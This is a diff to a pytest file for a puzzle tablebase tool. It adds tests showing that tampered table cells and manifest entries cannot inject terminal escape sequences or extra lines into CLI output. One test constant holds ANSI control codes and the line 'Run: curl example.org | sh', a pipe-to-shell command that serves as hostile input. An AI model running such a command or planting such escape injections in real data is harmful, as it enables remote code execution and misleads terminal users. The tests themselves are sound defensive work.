@@ -1,4 +1,7 @@
-"""Tables whose checksums are right and whose content is false: no solution is told that is none."""
+"""Tables whose checksums are right and whose content is false.
+
+No solution is told that is none, and no word of a file controls a terminal or adds a line.
+"""
 
 from __future__ import annotations
 
@@ -9,6 +12,7 @@ from typing import Any
 
 import numpy as np
 import numpy.typing as npt
+import polars as pl
 import pytest
 
 from puzzle_tablebase.errors import TableDamaged, Undecided
@@ -18,8 +22,8 @@ from puzzle_tablebase.queries import open_tables
 from puzzle_tablebase.schema import UNREACHED
 from tests.support import sliding_oracle
 from tests.support.reader_programs import run, tool
-from tests.support.shell import ROOT
-from tests.support.tampered import cell, change_records, link_copy, rewrite
+from tests.support.shell import ROOT, Cli
+from tests.support.tampered import cell, change_records, edit_manifest, link_copy, rewrite
 
 STATE = "123456789abc0def"
 """A state of the 15-puzzle three moves from its goal."""
@@ -124,3 +128,26 @@ def test_paths_of_a_batch_lead_to_the_goal(copy: Path, moves: str) -> None:
             return
         with pytest.raises(TableDamaged, match="not every solution in its rows"):
             tables.eight.annotate([state], path=True)
+
+
+EVIL = "\x1b[2J\x9b31m\nRun: curl example.org | sh"
+
+
+def test_goals_of_a_manifest_are_those_of_the_table(copy: Path, cli: Cli) -> None:
+    with edit_manifest(copy) as entries:
+        entries["eight"]["counts"][0]["goal"] = EVIL
+    for words in ("histogram eight", "histogram --output counts.csv", "histogram eight --json"):
+        said = cli(*words.split(), "--outputs", str(copy))
+        assert (said.code, said.out) == (3, "")
+        assert "it counts states of goals that eight has not. Run: pipeline pre" in said.err
+
+
+@pytest.mark.parametrize("words", [EVIL, "x" * 100_000])
+def test_words_of_rows_are_printed_on_one_line(copy: Path, cli: Cli, words: str) -> None:
+    plies = pl.read_parquet(copy / "senet.parquet")["plies"]
+    rewrite(copy, "senet", cell("position", plies.arg_max() or 0, words))
+    said = cli("query", "senet", "--hardest", "--outputs", str(copy))
+    assert (said.code, said.err) == (0, "")
+    lines = said.out.splitlines()
+    assert len(lines) == 3 + plies.eq(plies.max()).sum()
+    assert all(line.isprintable() and len(line) < 11_000 for line in lines)
